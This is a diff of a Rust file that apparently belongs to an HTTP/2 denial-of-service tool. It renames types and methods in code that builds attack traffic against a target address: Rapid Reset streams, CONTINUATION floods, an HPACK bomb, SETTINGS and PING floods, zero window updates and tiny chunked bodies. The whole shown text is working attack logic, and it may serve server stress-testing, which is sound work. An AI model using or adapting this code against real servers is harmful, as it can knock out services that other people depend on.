@@ -6,11 +6,11 @@ use std::net::SocketAddr;
 use clap::ValueEnum;
 
 use super::{
-    answers::Answers,
     bytes::{
         ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GET, HEADERS, PING, POST, PREFACE,
         RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, request,
     },
+    flow_control::FlowControl,
 };
 
 /// As much as a proxy may read at a time.
@@ -38,7 +38,7 @@ const LAST_STREAM: u32 = u32::MAX >> 1;
 const CANCEL: [u8; 4] = [0, 0, 0, 8];
 
 #[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
-pub(super) enum Kind {
+pub(super) enum AttackKind {
     /// A request and an update of its window by nothing, over and over
     ZeroWindowUpdate,
     /// A request that is complete and data behind its end, over and over
@@ -65,7 +65,7 @@ pub(super) enum Kind {
 
 /// What one connection sends.
 pub(super) struct Attack {
-    kind: Kind,
+    kind: AttackKind,
     authority: String,
     /// Header blocks of requests without and with a body.
     get: Vec<u8>,
@@ -74,17 +74,17 @@ pub(super) struct Attack {
     next: u32,
 }
 
-impl Kind {
+impl AttackKind {
     pub(super) fn is_http2(self) -> bool {
         self != Self::TinyChunks
     }
 }
 
 impl Attack {
-    pub(super) fn new(kind: Kind, target: SocketAddr) -> Self {
+    pub(super) fn new(kind: AttackKind, target: SocketAddr) -> Self {
         let authority = target.to_string();
         let mut get = request(GET, &authority);
-        if kind == Kind::HpackBomb {
+        if kind == AttackKind::HpackBomb {
             get.extend([NEWEST; BOMB_FIELDS]);
         }
         Self {
@@ -113,9 +113,9 @@ impl Attack {
 
     /// Appends what comes next, as much as one write takes, or less where windows are closed.
     /// Returns how many streams it opens.
-    pub(super) fn fill(&mut self, bytes: &mut Vec<u8>, answers: &mut Answers) -> u64 {
+    pub(super) fn fill(&mut self, bytes: &mut Vec<u8>, flow_control: &mut FlowControl) -> u64 {
         let first = self.next;
-        while bytes.len() < WRITE && !self.is_over() && self.unit(bytes, answers) {}
+        while bytes.len() < WRITE && !self.is_over() && self.append_unit(bytes, flow_control) {}
         u64::from(self.next - first) / 2
     }
 
@@ -125,56 +125,56 @@ impl Attack {
     }
 
     /// Appends the smallest piece of the attack; whether there was one.
-    fn unit(&mut self, bytes: &mut Vec<u8>, answers: &mut Answers) -> bool {
+    fn append_unit(&mut self, bytes: &mut Vec<u8>, flow_control: &mut FlowControl) -> bool {
         match self.kind {
-            Kind::ZeroWindowUpdate => {
+            AttackKind::ZeroWindowUpdate => {
                 let stream = self.post(bytes);
                 frame(bytes, WINDOW_UPDATE, 0, stream, &[0; 4]);
             }
-            Kind::HalfClosedData => {
+            AttackKind::HalfClosedData => {
                 let stream = self.get(bytes);
                 frame(bytes, DATA, 0, stream, b"x");
             }
-            Kind::EmptyData => {
-                let stream = self.body(bytes, answers);
+            AttackKind::EmptyData => {
+                let stream = self.body(bytes, flow_control);
                 frame(bytes, DATA, 0, stream, &[]);
             }
-            Kind::ResetData => {
+            AttackKind::ResetData => {
                 if self.next == 1 {
                     let stream = self.post(bytes);
                     frame(bytes, WINDOW_UPDATE, 0, stream, &[0; 4]);
                 }
                 frame(bytes, DATA, END_STREAM, 1, &[]);
             }
-            Kind::HpackBomb if self.next == 1 => self.fuse(bytes),
-            Kind::HpackBomb => {
+            AttackKind::HpackBomb if self.next == 1 => self.first_bomb_request(bytes),
+            AttackKind::HpackBomb => {
                 self.get(bytes);
             }
-            Kind::TinyChunks => bytes.extend_from_slice(b"1\r\nx\r\n"),
-            Kind::TinyData => {
-                let stream = self.body(bytes, answers);
-                if answers.take(1) == 0 {
+            AttackKind::TinyChunks => bytes.extend_from_slice(b"1\r\nx\r\n"),
+            AttackKind::TinyData => {
+                let stream = self.body(bytes, flow_control);
+                if flow_control.take(1) == 0 {
                     return false;
                 }
                 frame(bytes, DATA, 0, stream, b"x");
             }
-            Kind::RapidReset => {
+            AttackKind::RapidReset => {
                 let stream = self.get(bytes);
                 frame(bytes, RST_STREAM, 0, stream, &CANCEL);
             }
-            Kind::Continuation if self.next == 1 => {
+            AttackKind::Continuation if self.next == 1 => {
                 let stream = self.stream();
                 frame(bytes, HEADERS, END_STREAM, stream, &self.get);
             }
-            Kind::Continuation => frame(bytes, CONTINUATION, 0, 1, &[STATIC]),
-            Kind::SettingsFlood => frame(bytes, SETTINGS, 0, 0, &[]),
-            Kind::PingFlood => frame(bytes, PING, 0, 0, &[0; 8]),
+            AttackKind::Continuation => frame(bytes, CONTINUATION, 0, 1, &[STATIC]),
+            AttackKind::SettingsFlood => frame(bytes, SETTINGS, 0, 0, &[]),
+            AttackKind::PingFlood => frame(bytes, PING, 0, 0, &[0; 8]),
         }
         true
     }
 
     /// The first request of the bomb, which puts its field into the table.
-    fn fuse(&mut self, bytes: &mut Vec<u8>) {
+    fn first_bomb_request(&mut self, bytes: &mut Vec<u8>) {
         let stream = self.stream();
         let mut block = request(GET, &self.authority);
         block.extend(BOMB_FIELD);
@@ -197,12 +197,12 @@ impl Attack {
     }
 
     /// The request whose body is being sent; a new one when there is none any more.
-    fn body(&mut self, bytes: &mut Vec<u8>, answers: &mut Answers) -> u32 {
-        if let Some(stream) = answers.stream() {
+    fn body(&mut self, bytes: &mut Vec<u8>, flow_control: &mut FlowControl) -> u32 {
+        if let Some(stream) = flow_control.stream() {
             return stream;
         }
         let stream = self.post(bytes);
-        answers.open(stream);
+        flow_control.open(stream);
         stream
     }
 
